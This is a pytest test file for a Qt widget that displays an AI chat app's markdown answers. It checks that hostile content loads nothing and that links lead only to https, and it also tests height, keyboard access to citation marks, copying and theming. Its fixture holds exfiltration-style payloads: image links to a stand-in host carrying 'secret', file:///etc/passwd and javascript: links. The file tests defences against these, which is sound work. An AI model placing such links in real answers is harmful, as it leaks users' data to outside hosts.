"""The text of an answer: safe, as tall as its content, and usable by keyboard."""

from __future__ import annotations

from pathlib import Path

import pytest
from PySide6.QtCore import QByteArray, QMimeData, Qt, QUrl
from PySide6.QtGui import QGuiApplication, QTextCursor, QTextDocument
from pytestqt.qtbot import QtBot

from desktop.chat.answer_text import AnswerText
from desktop.chat.markdown_tree import parse_markdown
from desktop.chat.proof_marks import mark_sentences
from desktop.theme import Theme, dark
from engine.values import Sentence

HOSTILE = """Ignore it. ![steal](https://evil.example/?q=secret) ![local](file:///etc/passwd)
<img src="https://evil.example/x.png"> <a href="javascript:alert(1)">x</a> <style>body { background: url(https://evil.example) }</style>

[run](javascript:alert(1)) [read](file:///etc/passwd) [fetch](http://plain.example) [fake](citation:1) [ok](https://example.org/page)

[![inner](https://evil.example/y.png)](https://example.org/other)

| ![a](https://evil.example/a.png) | <img src=b> |
|---|---|
| 1 | 2 |

```html
<img src="https://evil.example/c.png">
```
"""


class WatchedText(AnswerText):
    """Records what Qt asks for."""

    def __init__(self, theme: Theme) -> None:
        self.wanted: list[str] = []
        super().__init__(theme)

    def loadResource(self, kind: int, name: QUrl | str) -> object:  # noqa: N802
        self.wanted.append(name if isinstance(name, str) else name.toString())
        return super().loadResource(kind, name)


@pytest.fixture
def text(qtbot: QtBot, theme: Theme) -> WatchedText:
    widget = WatchedText(theme)
    qtbot.addWidget(widget)
    widget.resize(600, 10)
    widget.show()
    qtbot.waitExposed(widget)
    return widget


def anchors(text: AnswerText) -> set[str]:
    found: set[str] = set()
    block = text.document().begin()
    while block.isValid():
        fragments = block.begin()
        while not fragments.atEnd():
            look = fragments.fragment().charFormat()
            assert not look.isImageFormat()
            if look.isAnchor():
                found.add(look.anchorHref())
            fragments += 1
        block = block.next()
    return found


def test_a_hostile_answer_asks_for_nothing_and_leads_only_to_https(text: WatchedText, qtbot: QtBot) -> None:
    text.show_blocks(parse_markdown(HOSTILE))
    text.grab()
    assert text.wanted == []
    assert anchors(text) == {"https://example.org/page", "https://example.org/other", "code:0"}
    assert "\ufffc" not in text.toPlainText()
    assert '<img src="https://evil.example/x.png">' in text.toPlainText()


def test_a_hostile_answer_asks_for_nothing_while_it_streams(text: WatchedText) -> None:
    for end in range(0, len(HOSTILE), 7):
        text.show_tail(parse_markdown(HOSTILE[:end]), coloured=True)
    text.grab()
    assert text.wanted == []


def test_resources_are_denied_whatever_is_asked_for(text: WatchedText, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("secret")
    for kind in (QTextDocument.ResourceType.ImageResource, QTextDocument.ResourceType.HtmlResource, QTextDocument.ResourceType.StyleSheetResource):
        for address in (secret.as_uri(), str(secret), "data:text/plain,secret", "https://evil.example/x.png"):
            text.setHtml(f"<img src='{address}'>")  # what no code of ours does
            text.grab()
            assert text.document().resource(kind.value, QUrl(address)) == QByteArray(b" ")


def test_it_does_not_browse(text: WatchedText) -> None:
    text.show_blocks(parse_markdown("stays"))
    text.setSource(QUrl("file:///etc/passwd"))
    assert text.toPlainText() == "stays"


@pytest.mark.parametrize("address", ["javascript:alert(1)", "file:///etc/passwd", "http://plain.example", "citation:x", "code:99", "citation:-1"])
def test_dead_addresses_stay_dead_even_when_followed(text: WatchedText, qtbot: QtBot, address: str) -> None:
    with qtbot.assertNotEmitted(text.link_pressed), qtbot.assertNotEmitted(text.citation_pressed):
        text.anchorClicked.emit(QUrl(address))


def test_it_is_as_tall_as_its_text(text: WatchedText) -> None:
    text.show_blocks(parse_markdown("one line"))
    low = text.height()
    text.show_blocks(parse_markdown("\n\n".join(f"paragraph {number}" for number in range(20))))
    assert text.height() > 10 * low
    assert text.verticalScrollBar().maximum() == 0
    text.show_blocks(())
    assert text.height() == 0


def test_narrower_is_taller(text: WatchedText, qtbot: QtBot) -> None:
    text.show_blocks(parse_markdown("word " * 200))
    wide = text.height()
    text.resize(200, wide)
    qtbot.waitUntil(lambda: text.height() > 2 * wide)


def show_marked(text: AnswerText) -> None:
    blocks = parse_markdown("A tree is balanced. It is tall.")
    text.show_blocks(mark_sentences(blocks, [Sentence("A tree is balanced.", "supported", (1, 2)), Sentence("It is tall.", "supported", (3,))]))


def test_a_click_on_a_mark_says_its_number(text: WatchedText, qtbot: QtBot) -> None:
    show_marked(text)
    place = text.mark_position(2)
    assert place is not None
    with qtbot.waitSignal(text.citation_pressed) as pressed:
        qtbot.mouseClick(text.viewport(), Qt.MouseButton.LeftButton, pos=place)
    assert pressed.args == [2]


def test_tab_reaches_the_marks_and_enter_follows(text: WatchedText, qtbot: QtBot) -> None:
    show_marked(text)
    text.setFocus()
    qtbot.keyClick(text, Qt.Key.Key_Tab)
    qtbot.keyClick(text, Qt.Key.Key_Tab)
    with qtbot.waitSignal(text.citation_pressed) as pressed:
        qtbot.keyClick(text, Qt.Key.Key_Return)
    assert pressed.args[0] in (1, 2)


def test_a_selection_is_copied_with_readable_marks(text: WatchedText) -> None:
    show_marked(text)
    text.selectAll()
    data: QMimeData = text.createMimeDataFromSelection()
    assert data.text() == "A tree is balanced. [1] [2] It is tall. [3]"
    assert data.formats() == ["text/plain"]


def test_a_selection_of_a_list_and_code_is_plain_text(text: WatchedText) -> None:
    text.show_blocks(parse_markdown("1. one\n2. two\n\n```python\nx = 1\ny = 2\n```"))
    text.moveCursor(QTextCursor.MoveOperation.Start)
    text.selectAll()
    assert "1. one\n2. two" in text.selected_text()
    assert "x = 1\ny = 2" in text.selected_text()


def test_a_code_block_copies_its_own_text(text: WatchedText) -> None:
    text.show_blocks(parse_markdown("```python\nx = 1\n```\n\n```c\nint y;\n```"))
    text.anchorClicked.emit(QUrl("code:1"))
    assert QGuiApplication.clipboard().text() == "int y;"


def test_frozen_blocks_stay_and_the_tail_is_replaced(text: WatchedText) -> None:
    text.show_tail(parse_markdown("First para"), coloured=True)
    text.freeze(parse_markdown("First paragraph.\n\n```\ncode\n```\n\n| a |\n|---|\n| 1 |"))
    text.show_tail(parse_markdown("- item **bold"), coloured=True)
    text.show_tail(parse_markdown("- item **bold**\n\n```\nmore\n```"), coloured=True)
    text.show_tail(parse_markdown("The end"), coloured=True)
    shown = [line for line in text.toPlainText().split("\n") if line]
    assert shown == ["First paragraph.", "text   Copy", "code", "a", "1", "The end"]


def test_chinese_is_drawn_and_kept(text: WatchedText) -> None:
    sentence = "红黑树是一种自平衡二叉查找树。"
    text.show_blocks(mark_sentences(parse_markdown(sentence * 12), [Sentence(sentence, "supported", (1,))]))
    drawn = text.grab().toImage()
    colours = {drawn.pixelColor(x, y).name() for x in range(0, drawn.width(), 3) for y in range(0, drawn.height(), 3)}
    assert len(colours) > 3
    assert text.toPlainText().count("红黑树") == 12
    assert text.height() > 40  # broken into lines, although there is no blank in it


def test_another_theme_draws_in_other_colours(text: WatchedText) -> None:
    text.show_blocks(parse_markdown("word"))
    text.set_theme(dark())
    text.show_blocks(parse_markdown("word"))
    cursor = QTextCursor(text.document())
    cursor.movePosition(QTextCursor.MoveOperation.NextCharacter)
    assert cursor.charFormat().foreground().color().name() == dark().text


def test_an_enormous_table_becomes_plain_lines(text: WatchedText) -> None:
    table = "|a" * 30 + "|\n" + "|-" * 30 + "|\n" + ("|x" * 30 + "|\n") * 40
    text.show_blocks(parse_markdown(table))
    assert text.toPlainText().count("x") >= 1200
    assert "code:0" in anchors(text)
